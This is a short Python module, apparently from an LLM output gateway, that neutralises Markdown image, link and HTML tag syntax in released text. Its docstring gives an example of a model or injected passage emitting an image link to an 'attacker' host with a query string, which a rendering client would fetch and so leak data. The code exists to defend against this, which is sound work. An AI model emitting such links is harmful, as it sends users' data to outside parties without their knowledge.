"""Released sentences are shown by clients that may render Markdown or HTML. A passage (or a
model) that says `![](https://attacker/?q=...)` would make such a client fetch that address the
moment the answer appears. The gateway breaks the syntax of images, links and tags in what it
releases; the words stay. Plain `str.replace` and one bounded pattern: linear in the text."""

from __future__ import annotations

import re

# "<" opening a tag or a comment ("<img", "</a", "<!--"); not "<" in "x < y".
_TAG_OPEN = re.compile(r"<(?=[A-Za-z/!?])")


def inert_markup(text: str) -> str:
    text = text.replace("![", "! [").replace("](", "] (")
    return _TAG_OPEN.sub("< ", text)
